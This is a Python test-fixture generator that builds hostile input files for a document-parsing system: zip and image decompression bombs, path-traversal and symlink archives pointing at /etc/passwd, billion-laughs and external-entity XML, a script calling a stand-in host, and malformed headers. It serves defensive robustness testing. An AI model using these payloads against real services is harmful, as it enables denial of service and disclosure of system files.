"""Files made to harm whoever reads them: one maker for each, by name. Seedable; none is kept in the repository."""

from __future__ import annotations

import base64
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Collection
from pathlib import Path

from hostile_pdfs import MAKERS, maker

ENDINGS = (
    *(".pdf", ".txt", ".docx", ".rtf", ".odt", ".html", ".xml", ".hl7", ".tif"),
    *(".jpg", ".png", ".heic", ".bmp", ".gif", ".webp"),
)
MORE_ENDINGS = (".eml", ".msg", ".zip", ".doc", ".xls", ".json", ".csv", ".dcm", ".ccda")


def make(folder: Path, seed: int = 1, *, names: Collection[str] = ()) -> list[Path]:
    """Write the named files (all) into a folder; each maker has a chance of its own, so that one more changes no other."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    for name, made_by in MAKERS.items():
        if not names or name in names:
            path = folder / name
            path.write_bytes(made_by(random.Random(f"{seed} {name}")))
            made.append(path)
    return made


def zipped(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


@maker("bomb.zip")
def _(chance: random.Random) -> bytes:
    return zipped(*((f"{at}.txt", b"\0" * 100_000_000) for at in range(8)))


@maker("zip-in-zip-in-zip.zip")
def _(chance: random.Random) -> bytes:
    data = zipped(("a.txt", b"\0" * 10_000_000))
    for level in range(12):
        data = zipped(*((f"{level}-{at}.zip", data) for at in range(8)))
    return data


@maker("names-that-climb.zip")
def _(chance: random.Random) -> bytes:
    names = (
        "../../../../tmp/imr-was-here",
        "/tmp/imr-was-here",
        "C:\\imr-was-here",
        "..\\..\\x.txt",
        "a/\0b.txt",
        "\u202egpj.exe",
    )
    return zipped(*((name, b"The worker has neck pain.") for name in names))


@maker("symbolic-link.zip")
def _(chance: random.Random) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link.txt/x", "y")
    return buffer.getvalue()


@maker("four-gigabytes-declared.zip")
def _(chance: random.Random) -> bytes:
    data = bytearray(zipped(("a.txt", b"neck pain")))
    at = data.rindex(b"PK\1\2")
    data[at + 24 : at + 28] = data[22:26] = b"\xff\xff\xff\xfe"
    return bytes(data)


@maker("seventy-thousand-names.zip")
def _(chance: random.Random) -> bytes:
    return zipped(*((f"{at}.txt", b"x") for at in range(70_000)))


@maker("the-same-bytes-again.zip")
def _(chance: random.Random) -> bytes:
    data = bytearray(zipped(("a.txt", b"\0" * 50_000_000)))
    at, end = data.rindex(b"PK\1\2"), data.rindex(b"PK\5\6")
    entry = bytes(data[at:end])
    central = b"".join(entry.replace(b"a.txt", b"%05d" % number) for number in range(2_000))
    return bytes(data[:at]) + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2_000, 2_000, len(central), at, 0)


@maker("bomb.docx")
def _(chance: random.Random) -> bytes:
    body = b"<w:document xmlns:w='x'><w:body>" + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 8_000_000
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body))


@maker("entities.docx")
def _(chance: random.Random) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", LAUGHS))


@maker("deep.docx")
def _(chance: random.Random) -> bytes:
    depth = 100_000
    body = b"<w:document xmlns:w='x'><w:body>" + b"<w:p>" * depth + b"</w:p>" * depth + b"</w:body></w:document>"
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body))


@maker("parts-in-a-loop.docx")
def _(chance: random.Random) -> bytes:
    relations = (
        b"<Relationships><Relationship Id='r' Type='x/officeDocument' Target='../../../../etc/passwd'/></Relationships>"
    )
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/x.xml", b"<x/>"), ("_rels/.rels", relations))


LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(12))
    + b"]><ClinicalDocument>&m;</ClinicalDocument>"
)


@maker("billion-laughs.xml")
def _(chance: random.Random) -> bytes:
    return LAUGHS


@maker("outside-entity.xml")
def _(chance: random.Random) -> bytes:
    return b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://192.0.2.1/">]><x>&f;&h;</x>'


@maker("deep.xml")
def _(chance: random.Random) -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * 300_000 + b"x" + b"</a>" * 300_000


@maker("deep.rtf")
def _(chance: random.Random) -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"x"


@maker("binary.rtf")
def _(chance: random.Random) -> bytes:
    return b"{\\rtf1 {\\pict\\bin9999999999 " + chance.randbytes(1000) + b"}\\u99999999? neck pain}"


@maker("deep.html")
def _(chance: random.Random) -> bytes:
    return b"<html><body>" + b"<div style='display:none'><table><tr><td>" * 100_000 + b"x"


@maker("script.html")
def _(chance: random.Random) -> bytes:
    return b"<html><script>fetch('http://192.0.2.1/')</script><img src=file:///etc/passwd onerror=x()>neck"


@maker("unclosed.html")
def _(chance: random.Random) -> bytes:
    return b"<html>" + b"<!--" * 200_000 + b"<a " * 200_000 + b"&" * 200_000


@maker("mails-in-mails.eml")
def _(chance: random.Random) -> bytes:
    mail = b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n\nneck pain"
    for level in range(400):
        head = b"From: a@b\nSubject: %d\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" % level
        mail = head + mail
    return mail


@maker("boundaries.eml")
def _(chance: random.Random) -> bytes:
    head = b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return head + b"--x\nContent-Type: multipart/mixed; boundary=x\n\n" * 100_000


@maker("attachments.eml")
def _(chance: random.Random) -> bytes:
    part = (
        b'--x\nContent-Type: application/octet-stream; name="../../%d.txt"\nContent-Transfer-Encoding: base64\n\nbmVjaw==\n'
    )
    head = b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return head + b"".join(part % at for at in range(5_000)) + b"--x--"


@maker("sectors-in-a-loop.msg")
def _(chance: random.Random) -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 10
    head += struct.pack("<IIIIIIIII", 1, 0, 0, 4096, 0, 1, 0, 0, 0)
    return (head + struct.pack("<I", 0) * 109).ljust(512, b"\0") + struct.pack("<I", 0) * 128 + struct.pack("<I", 1) * 128


@maker("bomb.png")
def _(chance: random.Random) -> bytes:
    return _png(60_000, 60_000, zlib.compress(b"\0" * 50_000_000, 9))


@maker("pixels-that-fit-not.png")
def _(chance: random.Random) -> bytes:
    return _png(2_147_483_647, 2_147_483_647, b"")


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@maker("text-bomb.png")
def _(chance: random.Random) -> bytes:
    body = b"Comment\0\0" + zlib.compress(b"\0" * 500_000_000, 9)
    made = _png(9, 9, zlib.compress(b"\0" * 252, 9))
    return (
        made[:33] + struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body)) + made[33:]
    )


@maker("bomb.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [
            (256, 4, 65_000),
            (257, 4, 65_000),
            (258, 3, 1),
            (259, 3, 4),
            (262, 3, 0),
            (273, 4, 8),
            (278, 4, 65_000),
            (279, 4, 4),
        ]
    )


@maker("frames-in-a-loop.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [(256, 4, 9), (257, 4, 9), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8), (278, 4, 9), (279, 4, 18)], after=12
    )


@maker("strips-that-lie.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [
            (256, 4, 900),
            (257, 4, 900),
            (258, 3, 8),
            (259, 3, 5),
            (262, 3, 1),
            (273, 4, 4_294_967_000),
            (279, 4, 4_294_967_000),
        ]
    )


def _tiff(tags: list[tuple[int, int, int]], after: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 12) + b"\0\1\0\1" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", after)


@maker("many-frames.tif")
def _(chance: random.Random) -> bytes:
    frames, out = 200_000, bytearray(b"II*\0\x08\0\0\0")
    for at in range(frames):
        here = len(out)
        entries = ((256, 4, 9), (257, 4, 9), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8), (279, 4, 2))
        out += struct.pack("<H", 7) + b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
        out += struct.pack("<I", here + 90 if at + 1 < frames else 0)
    return bytes(out)


@maker("bomb.gif")
def _(chance: random.Random) -> bytes:
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;"


@maker("huge.bmp")
def _(chance: random.Random) -> bytes:
    return b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2_000_000, 2_000_000, 1, 24, 0, 0, 0, 0, 0, 0)


@maker("boxes.heic")
def _(chance: random.Random) -> bytes:
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + (struct.pack(">I", 0xFFFFFFFF) + b"meta") * 50_000


@maker("segments.hl7")
def _(chance: random.Random) -> bytes:
    return b"MSH|^~\\&|A\r" + b"OBX|1|ST|a^b||" + b"\\X" + b"41" * 5_000 + b"\\" * 100_000 + b"\rOBX" * 100_000


@maker("line.txt")
def _(chance: random.Random) -> bytes:
    return b"x" * 15_000_000


@maker("zeros.txt")
def _(chance: random.Random) -> bytes:
    return b"\0" * 5_000_000


@maker("marks.txt")
def _(chance: random.Random) -> bytes:
    return b"\xff\xfe\0\0" + b"\xff" * 4_001


@maker("links.tar")
def _(chance: random.Random) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, target in (("a.txt", "/etc/passwd"), ("b.txt", "../../etc/passwd")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            archive.addfile(link)
        device = tarfile.TarInfo("c.txt")
        device.type = tarfile.CHRTYPE
        archive.addfile(device)
    return buffer.getvalue()


@maker("bomb.gz")
def _(chance: random.Random) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*(packer.compress(b"\0" * 10_000_000) for _ in range(200)), packer.flush()])


@maker("mail-with-a-bomb.eml")
def _(chance: random.Random) -> bytes:
    data = base64.encodebytes(zipped(("a.pdf", b"\0" * 200_000_000)))
    return (
        b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: application/zip; name=a.zip\n"
        b"Content-Transfer-Encoding: base64\n\n" + data
    )


for _ending in (*ENDINGS, *MORE_ENDINGS):
    MAKERS[f"random{_ending}"] = lambda chance: chance.randbytes(20_000)
    MAKERS[f"one-byte{_ending}"] = lambda chance: b"\0"
MAKERS["nothing.pdf"] = lambda chance: b""
